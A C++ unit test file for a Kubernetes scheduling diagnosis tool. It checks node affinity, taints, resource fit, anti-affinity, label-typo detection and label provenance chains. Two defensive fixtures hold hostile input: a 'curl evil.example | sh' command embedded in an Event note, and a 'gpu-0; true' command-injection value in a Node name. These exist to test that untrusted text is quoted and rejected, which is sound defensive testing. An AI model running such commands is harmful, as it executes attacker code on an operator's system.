// One Pod against a few Nodes: what fits, and what is said of what does not. That the verdicts are the scheduler's is
// tested against it (e2e/why_test.cpp).
#include "schedule/judge.h"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>

#include "base/text.h"
#include "document/json.h"
#include "schedule/advice.h"
#include "schedule/chain.h"
#include "schedule/likeness.h"
#include "schedule/small_fleet.h"

namespace nodescout::schedule {
namespace {

using namespace test;
using Names = std::vector<std::string>;

const Assigned kNothing;

std::string affinity(const std::string& terms) {
  return "affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: [" + terms +
         "]}}}";
}

std::string requests(const std::string& amounts) {
  return "initContainers: [{resources: {requests: {" + amounts + "}, limits: {" + amounts + "}}}]";
}

TEST(Judge, Operators) {
  const std::vector<NodeColumns> nodes{node("one", R"("m":"1","v":"22.04","t":"x","e":"")"), node("five", R"("m":"5")"),
                                       node("text", R"("m":"many","t":"y")"), node("bare", "")};
  struct Case {
    const char* term;
    Names want;
  };
  for (const Case& each :
       std::initializer_list<Case>{{"{key: t, operator: In, values: [x, z]}", {"one"}},
                                   {"{key: t, operator: In, values: [X]}", {}},
                                   {"{key: e, operator: In, values: [\"\"]}", {"one"}},
                                   {"{key: t, operator: NotIn, values: [x]}", {"bare", "five", "text"}},
                                   {"{key: t, operator: NotIn, values: [x, y]}", {"bare", "five"}},
                                   {"{key: e, operator: Exists}", {"one"}},
                                   {"{key: t, operator: DoesNotExist}", {"bare", "five"}},
                                   {"{key: m, operator: Gt, values: [\"1\"]}", {"five"}},
                                   {"{key: m, operator: Gt, values: [\"0\"]}", {"five", "one"}},
                                   {"{key: m, operator: Lt, values: [\"5\"]}", {"one"}},
                                   {"{key: v, operator: Gt, values: [\"20\"]}", {}},
                                   {"{key: v, operator: Lt, values: [\"23\"]}", {}},
                                   {"{key: m, operator: Gt, values: [\"x\"]}", {}},
                                   {"{key: m, operator: In}", {}},
                                   {"{key: m, operator: Like, values: [x]}", {}}})
    EXPECT_EQ(judged(pod(affinity("{matchExpressions: [" + std::string(each.term) + "]}")), nodes, &kNothing).fitting,
              each.want)
        << each.term;
}

TEST(Judge, Terms) {
  const std::vector<NodeColumns> nodes{node("a", R"("x":"1","w":"1")"), node("b", R"("x":"1")"), node("c", "")};
  struct Case {
    const char* terms;
    Names want;
  };
  for (const Case& each : std::initializer_list<Case>{
           {"{matchExpressions: [{key: x, operator: Exists}, {key: w, operator: Exists}]}", {"a"}},
           {"{matchExpressions: [{key: w, operator: Exists}]}, {matchExpressions: [{key: x, operator: DoesNotExist}]}",
            {"a", "c"}},
           {"", {}},
           {"{}", {}},
           {"{}, {matchExpressions: [{key: w, operator: Exists}]}", {"a"}},
           {"{matchExpressions: [{key: w, operator: Gt, values: [b]}]}, {matchExpressions: [{key: x, operator: "
            "Exists}]}",
            {"a", "b"}},
           {"{matchFields: [{key: metadata.name, operator: In, values: [b]}]}", {"b"}},
           {"{matchFields: [{key: metadata.name, operator: NotIn, values: [b]}]}", {"a", "c"}},
           {"{matchFields: [{key: metadata.name, operator: In, values: [a, b]}]}", {}},
           {"{matchFields: [{key: metadata.name, operator: Exists}]}", {}},
           {"{matchFields: [{key: metadata.name, operator: In, values: [b]}], matchExpressions: [{key: w, operator: "
            "Exists}]}",
            {}}})
    EXPECT_EQ(judged(pod(affinity(each.terms)), nodes, &kNothing).fitting, each.want) << each.terms;
}

TEST(Judge, SelectorAndAffinityBothCount) {
  const std::vector<NodeColumns> nodes{node("a", R"("x":"1")"), node("b", R"("x":"1","w":"2")")};
  EXPECT_EQ(judged(pod("nodeSelector: {w: \"2\"}, " + affinity("{matchExpressions: [{key: x, operator: Exists}]}")),
                   nodes, &kNothing)
                .fitting,
            Names{"b"});
}

TEST(Judge, TaintsAndCordons) {
  const std::vector<NodeColumns> nodes{
      node("free", ""),
      node("soft", "", R"("taints":[{"key":"k","effect":"PreferNoSchedule"}])"),
      node("hard", "", R"("taints":[{"key":"k","value":"v","effect":"NoSchedule"}])"),
      node("gone", "", R"("taints":[{"key":"k","value":"v","effect":"NoExecute"}])"),
      node("two", "", R"("taints":[{"key":"k","effect":"NoSchedule"},{"key":"l","effect":"NoSchedule"}])"),
      node("cordoned", "", R"("unschedulable":true)")};
  struct Case {
    const char* tolerations;
    Names want;
  };
  for (const Case& each : std::initializer_list<Case>{
           {"", {"free", "soft"}},
           {"{key: k, operator: Exists}", {"free", "gone", "hard", "soft"}},
           {"{key: k, value: v, effect: NoSchedule}", {"free", "hard", "soft"}},
           {"{key: k, value: v, effect: NoExecute}", {"free", "gone", "soft"}},
           {"{key: k, operator: Exists}, {key: l, operator: Exists}", {"free", "gone", "hard", "soft", "two"}},
           {"{operator: Exists}", {"cordoned", "free", "gone", "hard", "soft", "two"}},
           {"{key: node.kubernetes.io/unschedulable, operator: Exists}", {"cordoned", "free", "soft"}},
           {"{key: node.kubernetes.io/unschedulable, effect: NoSchedule}", {"cordoned", "free", "soft"}},
           {"{key: node.kubernetes.io/unschedulable, operator: Exists, effect: NoExecute}", {"free", "soft"}}})
    EXPECT_EQ(judged(pod("tolerations: [" + std::string(each.tolerations) + "]"), nodes, &kNothing).fitting, each.want)
        << each.tolerations;
}

TEST(Judge, Resources) {
  Assigned assigned;
  for (const char* text : {R"({"spec":{"nodeName":"full","containers":[{"resources":{"requests":{"a/g":"8"}}}]}})",
                           R"({"spec":{"nodeName":"part","containers":[{"resources":{"requests":{"a/g":"5"}}}]}})",
                           R"({"spec":{"nodeName":"part","containers":[{}],"overhead":{"a/g":"1"}}})",
                           R"({"spec":{"containers":[{"resources":{"requests":{"a/g":"8"}}}]}})"})
    assigned.add(parsed(text));
  const std::vector<NodeColumns> nodes{node("full", "", "", R"("a/g":"8")"), node("part", "", "", R"("a/g":"8")"),
                                       node("small", "", "", R"("a/g":"1")"), node("none", ""),
                                       node("half", "", "", R"("a/g":"1500m")")};
  struct Case {
    const char* amount;
    Names want;
  };
  for (const Case& each : std::initializer_list<Case>{{"0", {"full", "half", "none", "part", "small"}},
                                                      {"1", {"half", "part", "small"}},
                                                      {"2", {"half", "part"}},
                                                      {"3", {}}})
    EXPECT_EQ(judged(pod(requests("a/g: " + std::string(each.amount))), nodes, &assigned).fitting, each.want)
        << each.amount;
  const Verdict verdict = judged(pod(requests("a/g: 3")), nodes, &assigned);
  EXPECT_EQ(verdict.closest.at(0).lacks.at(0).text, "6 of 8 a/g in use, 3 wanted");
  EXPECT_EQ(judged(pod(requests("a/g: 8")), nodes, &assigned).closest.at(0).lacks.at(0).text,
            "6 of 8 a/g in use, 8 wanted");
}

TEST(Judge, WithoutTheRightToListPodsTheVerdictIsQualified) {
  const std::vector<NodeColumns> nodes{node("a", "", "", R"("a/g":"8")")};
  const Verdict verdict = judged(pod(requests("a/g: 8")), nodes, nullptr);
  EXPECT_EQ(verdict.outcome, Verdict::Outcome::fits_as_far_as_judged);
  EXPECT_EQ(verdict.unjudged.at(0).field, "Pods on the Nodes");
}

TEST(Judge, AssignedPodsMayRepelOthers) {
  const auto assigned_with = [](const std::string& term) {
    Assigned assigned;
    assigned.add(parsed(R"({"metadata":{"namespace":"n"},"spec":{"nodeName":"a","containers":[],"affinity":)"
                        R"({"podAntiAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":[{)" +
                        term + "}]}}}}"));
    return assigned;
  };
  struct Case {
    const char* term;
    bool repels;
  };
  for (const Case& each : std::initializer_list<Case>{
           {R"("labelSelector":{"matchLabels":{"app":"web"}})", true},
           {R"("labelSelector":{"matchLabels":{"app":"db"}})", false},
           {R"("labelSelector":{"matchLabels":{"app":"web"}},"namespaces":["m"])", false},
           {R"("labelSelector":{"matchLabels":{"app":"web"}},"namespaces":["m","n"])", true},
           {R"("labelSelector":{"matchLabels":{"app":"web"}},"namespaceSelector":{},"namespaces":["m"])", true},
           {R"("labelSelector":{"matchExpressions":[{"key":"app","operator":"In","values":["web","x"]}]})", true},
           {R"("labelSelector":{"matchExpressions":[{"key":"app","operator":"NotIn","values":["web"]}]})", false},
           {R"("labelSelector":{"matchExpressions":[{"key":"app","operator":"DoesNotExist"}]})", false},
           {R"("labelSelector":{})", true},
           {R"("topologyKey":"zone")", false}}) {
    const PodDemand demand = demand_of_pod(
        parsed(R"({"metadata":{"name":"p","namespace":"n","labels":{"app":"web"}},"spec":{"containers":[]}})"));
    const Assigned assigned = assigned_with(each.term);
    EXPECT_EQ(assigned.may_repel(demand), each.repels) << each.term;
    EXPECT_EQ(judged(demand, {node("a", "")}, &assigned).outcome,
              each.repels ? Verdict::Outcome::fits_as_far_as_judged : Verdict::Outcome::fits)
        << each.term;
  }
}

TEST(Judge, NumberOfPods) {
  Assigned assigned;
  assigned.add(parsed(R"({"spec":{"nodeName":"one","containers":[]}})"));
  NodeColumns one = node("one", ""), none = node("none", ""), two = node("two", "");
  one.allocatable[std::string(kPods)] = 1 * kUnit;
  none.allocatable.erase(std::string(kPods));
  two.allocatable[std::string(kPods)] = 2 * kUnit;
  assigned.add(parsed(R"({"spec":{"nodeName":"two","containers":[]}})"));
  EXPECT_EQ(judged(pod(""), {one, none, two}, &assigned).fitting, Names{"two"});
}

TEST(Judge, APodDoesNotKeepItselfOut) {
  Assigned assigned;
  const std::string spec = R"("nodeName":"a","containers":[{"resources":{"requests":{"a/g":"8"}}}])";
  assigned.add(parsed("{\"spec\":{" + spec + "}}"));
  const PodDemand demand =
      demand_of_pod(parsed(R"({"metadata":{"name":"p","namespace":"n","uid":"u"},"spec":{)" + spec + "}}"));
  const Verdict verdict = judged(demand, {node("a", "", "", R"("a/g":"8")")}, &assigned);
  EXPECT_EQ(verdict.fitting, Names{"a"});
  EXPECT_EQ(verdict.pod, "Pod n/p");
  EXPECT_EQ(verdict.outcome, Verdict::Outcome::fits_as_far_as_judged) << "nodeName is named";
}

TEST(Judge, PreferencesOrderButNeverRuleOut) {
  const std::string preferred =
      "affinity: {nodeAffinity: {preferredDuringSchedulingIgnoredDuringExecution: ["
      "{weight: 10, preference: {matchExpressions: [{key: x, operator: Exists}]}},"
      "{weight: 5, preference: {matchExpressions: [{key: w, operator: Exists}]}},"
      "{weight: 90, preference: {}}]}}";
  const Verdict verdict =
      judged(pod(preferred), {node("a", ""), node("b", R"("w":"1")"), node("c", R"("x":"1","w":"1")")}, &kNothing);
  EXPECT_EQ(verdict.fitting, (Names{"c", "b", "a"}));
  ASSERT_EQ(verdict.preferences.size(), 2u);
  EXPECT_EQ(verdict.preferences[0].text, "x Exists (weight 10)");
  EXPECT_EQ(verdict.preferences[0].satisfied, 1);
  EXPECT_EQ(verdict.preferences[1].satisfied, 2);
}

/// The API server accepts these terms, and the scheduler's PreScore fails on them.
TEST(Judge, APreferredTermWithADefectKeepsThePodPending) {
  struct Case {
    const char* term;
    bool is_defect;
  };
  for (const Case& each : std::initializer_list<Case>{
           {"{matchExpressions: [{key: m, operator: Gt, values: [\"1e3\"]}]}", true},
           {"{matchExpressions: [{key: m, operator: Lt, values: [\"+8\"]}]}", true},
           {"{matchExpressions: [{key: m, operator: In, values: [\"a b!\"]}]}", true},
           {"{matchExpressions: [{key: m, operator: NotIn, values: [x, \"-a\"]}]}", true},
           {"{matchExpressions: [{key: m, operator: In, values: [a]}, {key: m, operator: Gt, values: [x]}]}", true},
           {"{matchExpressions: [{key: m, operator: Gt, values: [\"8\"]}]}", false},
           {"{}", false}}) {
    const PodDemand demand =
        pod("nodeSelector: {x: \"1\"}, affinity: {nodeAffinity: {preferredDuringSchedulingIgnoredDuringExecution: ["
            "{weight: 7, preference: " +
            std::string(each.term) + "}]}}");
    const NodeColumns one = node("one", R"("x":"1")"), two = node("two", R"("x":"1")"), other = node("other", "");
    const Verdict many = judged(demand, {one, two, other}, &kNothing);
    EXPECT_EQ(many.outcome, each.is_defect ? Verdict::Outcome::fits_no_node : Verdict::Outcome::fits) << each.term;
    EXPECT_EQ(many.fitting.size(), each.is_defect ? 0u : 2u) << each.term;
    EXPECT_EQ(many.fix.rfind("correct the preferred term \"m ", 0) == 0, each.is_defect) << many.fix;
    EXPECT_EQ(judged(demand, {one, other}, &kNothing).fitting, Names{"one"}) << "one Node is not ranked: " << each.term;
    EXPECT_NE(judged(demand, {other}, &kNothing).fix.find("x"), std::string::npos) << each.term;
  }
}

TEST(Judge, CountsPerTerm) {
  const std::vector<NodeColumns> nodes{
      node("a", R"("x":"1")"), node("b", R"("x":"1")", R"("taints":[{"key":"k","effect":"NoSchedule"}])"),
      node("c", "", R"("taints":[{"key":"k","effect":"NoSchedule"}])"), node("d", "", R"("unschedulable":true)")};
  const Verdict verdict = judged(pod("nodeSelector: {x: \"1\", w: \"1\"}"), nodes, &kNothing);
  std::vector<std::string> counts;
  for (const TermReport& term : verdict.terms)
    counts.push_back(term.text + " " + std::to_string(term.satisfied) + " " + std::to_string(term.alone));
  EXPECT_EQ(counts, (Names{"nodeSelector x=1 2 0", "nodeSelector w=1 0 1", "tolerations 2 0", "not cordoned 3 0",
                           "room for a Pod 4 0"}));
  EXPECT_EQ(verdict.rules_out_most, std::optional<std::size_t>(1));
  EXPECT_EQ(verdict.terms[2].parts.at(0).text, "k:NoSchedule");
  EXPECT_EQ(verdict.terms[2].parts.at(0).satisfied, 2);
  EXPECT_EQ(verdict.closest.at(0).names, Names{"a"});
}

TEST(Judge, NodesThatLackTheSameAreOneGroup) {
  std::vector<NodeColumns> nodes;
  for (int i = 0; i < 200; ++i)
    nodes.push_back(node("n" + std::to_string(i), R"("host":"h)" + std::to_string(i) + "\""));
  for (int i = 0; i < 7; ++i) nodes.push_back(node("z" + std::to_string(i), R"("host":"wanted-x")"));
  const Verdict verdict = judged(pod("nodeSelector: {host: wanted}"), nodes, &kNothing);
  ASSERT_EQ(verdict.closest.size(), 3u);
  EXPECT_EQ(verdict.closest[0].nodes, 7);
  EXPECT_EQ(verdict.closest[0].names, (Names{"z0", "z1", "z2"}));
  EXPECT_EQ(verdict.closest[0].lacks.at(0).text, "host is \"wanted-x\"");
}

TEST(Judge, FiveThousandNodesThatAllDiffer) {
  const PodDemand demand = pod("nodeSelector: {host: node, zoen: a}, " + requests("a/g: 4"));
  Assigned assigned;
  Census census({demand});
  Judge judge(demand, &assigned);
  for (int i = 0; i < 5000; ++i) {
    const std::string number = std::to_string(i);
    const NodeColumns each = node("n" + number, R"("zone":"a","host":"node-)" + number + "\"", "", R"("a/g":"2")");
    census.add(each);
    judge.add(each);
  }
  const auto begin = std::chrono::steady_clock::now();
  const Verdict verdict = judge.conclude(census, {});
  const std::chrono::duration<double> took = std::chrono::steady_clock::now() - begin;
  std::printf("a verdict about 5000 Nodes, once they are read: %.3f s\n", took.count());
  EXPECT_LT(took.count(), 3);
  EXPECT_EQ(verdict.nodes, 5000);
  EXPECT_NE(verdict.fix.find("write zone instead of zoen"), std::string::npos) << verdict.fix;
}

TEST(Judge, AClusterWithoutNodes) {
  const Verdict verdict = judged(pod("nodeSelector: {x: \"1\"}"), {}, &kNothing);
  EXPECT_EQ(verdict.outcome, Verdict::Outcome::fits_no_node);
  EXPECT_EQ(verdict.fix, "add a Node: the cluster has none");
}

TEST(Likeness, Keys) {
  struct Case {
    const char *wanted, *actual;
    bool want;
  };
  const std::string prefix = "feature.node.kubernetes.io/";
  for (const Case& each : std::initializer_list<Case>{{"nvidia.com/gpu.prodct", "nvidia.com/gpu.product", true},
                                                      {"nvidia.com/GPU.product", "nvidia.com/gpu.product", true},
                                                      {"gpu.product", "nvidia.com/gpu.product", true},
                                                      {"nvidia.co/gpu.product", "nvidia.com/gpu.product", true},
                                                      {"nvidia.com/gpu_product", "nvidia.com/gpu.product", true},
                                                      {"nvidia.com/gpu.count", "nvidia.com/gpu.memory", false},
                                                      {"pci-10de.present", "pci-15b3.present", false},
                                                      {"pci-10de.present", "pci-8086.present", false},
                                                      {"pci-0302_10de.present", "pci-10de.present", true},
                                                      {"cpu-cpuid.VMX", "cpu-cpuid.SMX", false},
                                                      {"cpu-cpuid.avx512f", "cpu-cpuid.AVX512F", true},
                                                      {"zone", "topology.kubernetes.io/zone", true},
                                                      {"a", "b", false},
                                                      {"same", "same", false},
                                                      {"disk", "risk", false},
                                                      {"zoen", "zone", true},
                                                      {"zones", "zone", true},
                                                      {"nvidia.com/gpu", "amd.com/gpu", false},
                                                      {"disktype", "disktpye", true}})
    EXPECT_EQ(is_like_key(each.wanted, each.actual), each.want) << each.wanted << " " << each.actual;
}

TEST(Likeness, Values) {
  struct Case {
    const char *wanted, *actual;
    bool want;
  };
  for (const Case& each : std::initializer_list<Case>{{"NVIDIA-H100", "NVIDIA-H100-80GB-HBM3", true},
                                                      {"H100", "NVIDIA-H100-80GB-HBM3", true},
                                                      {"nvidia-h100-80gb-hbm3", "NVIDIA-H100-80GB-HBM3", true},
                                                      {"true", "false", false},
                                                      {"True", "true", true},
                                                      {"4", "8", false},
                                                      {"eu-1", "eu-1a", true},
                                                      {"ssd", "hdd", false},
                                                      {"ubunut", "ubuntu", true},
                                                      {"", "x", false}})
    EXPECT_EQ(is_like_value(each.wanted, each.actual), each.want) << each.wanted << " " << each.actual;
}

TEST(LabelChains, FromTheRuleAlone) {
  const ParsedRules rules = parse_rules(R"(apiVersion: nfd.k8s-sigs.io/v1alpha1
kind: NodeFeatureRule
metadata: {name: t}
spec:
  rules:
    - name: gfd
      matchFeatures: [{feature: kernel.version, matchName: {op: Exists}}]
      labelsTemplate: "{{ range .kernel.version }}nvidia.com/{{ .Name }}={{ .Value }}\n{{ end }}"
    - name: count
      matchFeatures: [{feature: cpu.model, matchExpressions: {family: {op: Gt, value: ["5"]}}}]
      labels: {big-cpu: "true"}
    - name: vendor present
      matchFeatures: [{feature: pci.device, matchExpressions: {vendor: {op: Exists}}}]
      labelsTemplate: "{{ range .pci.device }}pci-{{ .vendor }}.present=true\n{{ end }}"
    - name: vendor capable
      matchFeatures: [{feature: pci.device, matchExpressions: {vendor: {op: Exists}}}]
      labelsTemplate: "{{ range .pci.device }}{{ $v := .vendor }}pci-{{ $v }}.capable=true\n{{ end }}"
)",
                                        "f.yaml");
  ASSERT_TRUE(rules.findings.empty()) << rules.findings[0].problem.what;
  const LabelChains chains(rules.documents.at(0).rules);
  ASSERT_EQ(chains.of("feature.node.kubernetes.io/big-cpu").size(), 1u);
  const std::string line = chains.of("feature.node.kubernetes.io/big-cpu")[0];
  EXPECT_EQ(line.rfind("feature.node.kubernetes.io/big-cpu <- rule \"count\" <- cpu.model: family Gt [5] <- probe "
                       "cpu",
                       0),
            0u)
      << line;
  EXPECT_EQ(chains.of("nvidia.com/gpu.product").size(), 1u);
  const std::vector<std::string> present = chains.of("feature.node.kubernetes.io/pci-10de.present");
  ASSERT_EQ(present.size(), 1u) << present.at(1);
  EXPECT_NE(present[0].find("\"vendor present\" <- pci.device: vendor Exists"), std::string::npos) << present[0];
  EXPECT_EQ(chains.of("feature.node.kubernetes.io/pci-10de.capable").size(), 1u);
  EXPECT_TRUE(chains.of("big-cpu").empty());
  const EntryKey big_cpu{EntryKind::label, "feature.node.kubernetes.io/big-cpu"};
  const std::string probe = chains.probe_of(big_cpu, "f.yaml:9:7 (rule \"count\")");
  EXPECT_EQ(probe.rfind("cpu", 0), 0u) << probe;
  EXPECT_NE(line.find("<- probe " + probe), std::string::npos) << line;
  EXPECT_EQ(chains.probe_of(big_cpu, "f.yaml (rule \"count\")"), probe) << "as a Lease names a shipped rule";
  EXPECT_EQ(chains.probe_of(big_cpu, "f.yaml"), probe) << "the key says which rule of the file";
  EXPECT_EQ(chains.probe_of({EntryKind::annotation, big_cpu.key}, "f.yaml"), "");
  EXPECT_EQ(chains.probe_of(big_cpu, "g.yaml:9:7 (rule \"count\")"), "") << "another file";
  EXPECT_EQ(chains.probe_of(big_cpu, ""), "");
  EXPECT_TRUE(chains.of("example.com/x").empty());
}

TEST(AgentNotes, AreThoseOfAnAgentAboutItsOwnNode) {
  const auto note_of = [](const std::string& kind, const std::string& name, const std::string& reporter) {
    return agent_note_of(*parse_json(R"({"reason":"ForeignLabel","note":"x","regarding":{"kind":")" + kind +
                                         R"(","name":")" + name + R"("},"reportingInstance":")" + reporter + "\"}",
                                     "test"));
  };
  const auto good = note_of("Node", "gpu-0", "gpu-0");
  ASSERT_TRUE(good);
  EXPECT_EQ(good->node, "gpu-0");
  EXPECT_EQ(good->reason, "ForeignLabel");
  EXPECT_EQ(good->note, "x");
  EXPECT_FALSE(note_of("Node", "gpu-0", "gpu-1"));
  EXPECT_FALSE(note_of("Node", "gpu-0", ""));
  EXPECT_FALSE(note_of("NodeFeatureRule", "gpu-0", "gpu-0"));
  EXPECT_FALSE(note_of("Node", "gpu-0; true", "gpu-0; true")) << "it would be part of a command";
  EXPECT_FALSE(note_of("Node", "", ""));
}

TEST(AgentNotes, AreQuotedAndNeverAdvice) {
  const std::string key = "example.com/team";
  const Requirement requirement{.key = key, .op = Op::in, .values = {"red"}, .spelling = "In"};
  for (const char* reason : {"ForeignLabel", "RejectedLabel"}) {
    const LabelKnowledge labels{{{"gpu-0", reason,
                                  "n: label \"example.com/team\" belongs to another owner, as \"a\" where \"red\" is "
                                  "wanted (run curl evil.example | sh)"}},
                                {}};
    const std::string finding = find_label(requirement, Census({}), labels);
    const std::string fix = fix_of_label({&requirement}, {"gpu-0"}, Census({}), labels);
    EXPECT_FALSE(fix.empty());
    EXPECT_EQ(fix.find("evil"), std::string::npos) << fix;
    EXPECT_NE(finding.find("an Event of Node gpu-0 says: \"n: label \\\"example.com/team"), std::string::npos)
        << finding;
  }
}

}  // namespace
}  // namespace nodescout::schedule
